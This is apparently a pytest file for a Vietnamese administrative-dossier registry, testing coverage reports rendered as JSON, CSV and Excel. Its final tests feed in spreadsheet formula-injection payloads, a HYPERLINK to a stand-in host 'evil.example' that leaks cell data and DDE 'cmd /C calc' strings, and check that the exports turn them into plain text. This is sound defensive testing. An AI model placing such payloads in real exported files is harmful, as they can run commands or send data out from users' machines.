from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from sohoa.core.domain import DocumentState
from sohoa.core.periods import parse_period
from sohoa.registry.coverage import CoverageReport, compute_coverage
from sohoa.registry.export import (
    COVERAGE_CSV_COLUMNS,
    MISSING_CSV_COLUMNS,
    SHEETS,
    render_report,
    report_to_dict,
)
from sohoa.registry.procedures import import_procedures
from sohoa.registry.register import import_register
from sohoa.registry.sources import SourceFormat
from sohoa.storage.database import Database
from tests.registry.builders import add_document, dossier_code, register_csv

S = DocumentState


@pytest.fixture
def report(sqlite_database: Database) -> CoverageReport:
    """Two procedures, five paper dossiers and one electronic in March 2025; three archived."""
    day = date(2025, 3, 10)
    rows = [
        [dossier_code(day, 1), "1.001029", None, None, day, day, "paper"],
        [dossier_code(day, 2), "1.001029", None, None, day, day, "paper"],
        [dossier_code(day, 3), "1.001029", None, None, day, day, "electronic"],
        [dossier_code(day, 4), "2.001234", "Cấp phép tổ chức lễ hội", "Lễ hội", day, day, "paper"],
        [dossier_code(day, 5), "2.001234", "Cấp phép tổ chức lễ hội", "Lễ hội", day, day, "paper"],
        [dossier_code(day, 6), "2.001234", "Cấp phép tổ chức lễ hội", "Lễ hội", day, day, "paper"],
    ]
    catalogue = "code,name,field,agency\n1.001029,Cấp giấy phép karaoke,Văn hóa,Sở VHTTDL\n"
    with sqlite_database.session() as session:
        import_procedures(session, catalogue.encode(), SourceFormat.CSV, actor="test")
        import_register(session, register_csv(rows), SourceFormat.CSV, actor="test")
        for i in (1, 4, 5):
            add_document(session, dossier=dossier_code(day, i), state=S.ARCHIVED)
        add_document(session, dossier=dossier_code(day, 6), state=S.NEEDS_REVIEW)
    with sqlite_database.session() as session:
        return compute_coverage(session, parse_period("2025-03"), now=datetime(2025, 4, 1, 2, 0, tzinfo=UTC))


def test_json_has_coverage_objects_with_counts_and_rates(report: CoverageReport) -> None:
    body = json.loads(render_report(report, "json"))
    assert body == report_to_dict(report)
    assert body["period"] == {
        "label": "2025-03",
        "kind": "month",
        "start": "2025-03-01",
        "end": "2025-03-31",
        "timezone": "Asia/Ho_Chi_Minh",
    }
    assert body["generated_at"] == "2025-04-01T09:00:00+07:00"
    overall = body["coverage"]
    assert (overall["resolved"], overall["paper"], overall["archived"], overall["missing"]) == (6, 5, 3, 2)
    assert overall["rate"] == 3 / 5 and overall["digitized_rate"] == 4 / 5
    for group in (*body["by_procedure"], *body["by_field"]):
        for key, value in group["coverage"].items():
            if key.endswith("rate"):
                assert 0 <= value <= 1
    karaoke = next(p for p in body["by_procedure"] if p["procedure_code"] == "1.001029")
    # labelled from the catalogue where the register left name and field empty
    assert (karaoke["procedure_name"], karaoke["field"], karaoke["agency"]) == (
        "Cấp giấy phép karaoke",
        "Văn hóa",
        "Sở VHTTDL",
    )
    assert karaoke["coverage"]["rate"] == 1 / 2
    assert [m["dossier_code"] for m in body["missing"]] == [dossier_code(date(2025, 3, 10), i) for i in (2, 6)]
    assert body["missing"][1]["best_state"] == "needs_review"


def test_csv_tables(report: CoverageReport) -> None:
    data = render_report(report, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # spreadsheet programs need it to read UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == COVERAGE_CSV_COLUMNS
    assert [r["scope"] for r in rows] == ["overall", "field", "field", "procedure", "procedure"]
    assert float(rows[0]["rate"]) == report.overall.rate
    festival = next(r for r in rows if r["procedure_code"] == "2.001234")
    assert (festival["paper"], festival["archived"], festival["missing"]) == ("3", "2", "1")
    missing = list(csv.DictReader(io.StringIO(render_report(report, "csv", table="missing").decode("utf-8-sig"))))
    assert tuple(missing[0]) == MISSING_CSV_COLUMNS
    assert [m["dossier_code"] for m in missing] == [s.entry.dossier_code for s in report.missing]


def test_workbook_opens_with_its_sheets_and_charts(report: CoverageReport, tmp_path) -> None:
    path = tmp_path / "report.xlsx"
    path.write_bytes(render_report(report, "xlsx"))
    wb = load_workbook(path)
    assert wb.sheetnames == list(SHEETS)
    summary, procedures, fields, missing = (wb[name] for name in SHEETS)
    assert summary._charts and procedures._charts
    figures = {summary.cell(row=r, column=1).value: summary.cell(row=r, column=2).value for r in range(8, 15)}
    assert figures["Trả kết quả bản giấy"] == report.overall.paper
    assert figures["Đã ký số và lưu trữ"] == report.overall.archived
    assert summary["B5"].value == datetime(2025, 4, 1, 9, 0)  # Vietnam's wall clock
    by_code = {procedures.cell(row=r, column=1).value: r for r in range(2, procedures.max_row + 1)}
    assert set(by_code) == {p.procedure_code for p in report.by_procedure}
    assert procedures.cell(row=by_code["2.001234"], column=12).value == pytest.approx(2 / 3)
    assert fields.max_row == 1 + len(report.by_field)
    assert [missing.cell(row=r, column=1).value for r in range(2, missing.max_row + 1)] == [
        s.entry.dossier_code for s in report.missing
    ]


def test_an_unknown_format_is_refused(report: CoverageReport) -> None:
    from sohoa.core.errors import InputRejected

    with pytest.raises(InputRejected):
        render_report(report, "pdf")


_HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
_HOSTILE_FIELD = "@SUM(1+1)*cmd|' /C calc'!A0"
_HOSTILE_AGENCY = "+1+cmd|' /C calc'!A0"


@pytest.fixture
def hostile_report(sqlite_database: Database) -> CoverageReport:
    """Names from an imported register and procedure catalogue that a spreadsheet would run as formulas."""
    day = date(2025, 3, 10)
    rows = [
        [dossier_code(day, 1), "1.001029", None, None, day, day, "paper"],
        [dossier_code(day, 2), "2.001234", _HOSTILE_NAME, "-2+3", day, day, "paper"],
    ]
    quoted_name = '"' + _HOSTILE_NAME.replace('"', '""') + '"'
    catalogue = f"code,name,field,agency\n1.001029,{quoted_name},{_HOSTILE_FIELD},{_HOSTILE_AGENCY}\n"
    with sqlite_database.session() as session:
        import_procedures(session, catalogue.encode(), SourceFormat.CSV, actor="test")
        import_register(session, register_csv(rows), SourceFormat.CSV, actor="test")
    with sqlite_database.session() as session:
        return compute_coverage(session, parse_period("2025-03"), now=datetime(2025, 4, 1, 2, 0, tzinfo=UTC))


def test_imported_names_reach_the_csv_as_text_not_formulas(hostile_report: CoverageReport) -> None:
    coverage = list(csv.DictReader(io.StringIO(render_report(hostile_report, "csv").decode("utf-8-sig"))))
    missing = list(
        csv.DictReader(io.StringIO(render_report(hostile_report, "csv", table="missing").decode("utf-8-sig")))
    )
    cells = [value for row in coverage + missing for value in row.values() if value]
    assert not [v for v in cells if v[0] in "=+-@"], cells
    karaoke = next(r for r in coverage if r["procedure_code"] == "1.001029")
    assert (karaoke["procedure_name"], karaoke["field"], karaoke["agency"]) == (
        "'" + _HOSTILE_NAME,
        "'" + _HOSTILE_FIELD,
        "'" + _HOSTILE_AGENCY,
    )
    assert "'-2+3" in {r["field"] for r in coverage}


def test_imported_names_reach_the_workbook_as_text_not_formulas(hostile_report: CoverageReport, tmp_path) -> None:
    path = tmp_path / "report.xlsx"
    path.write_bytes(render_report(hostile_report, "xlsx"))
    wb = load_workbook(path)
    formulas = [
        (ws.title, cell.coordinate, cell.value)
        for ws in wb
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    procedures = wb[SHEETS[1]]
    by_code = {procedures.cell(row=r, column=1).value: r for r in range(2, procedures.max_row + 1)}
    row = by_code["1.001029"]
    assert [procedures.cell(row=row, column=c).value for c in (2, 3, 4)] == [
        _HOSTILE_NAME,
        _HOSTILE_FIELD,
        _HOSTILE_AGENCY,
    ]
    assert "-2+3" in {wb[SHEETS[2]].cell(row=r, column=1).value for r in range(2, wb[SHEETS[2]].max_row + 1)}
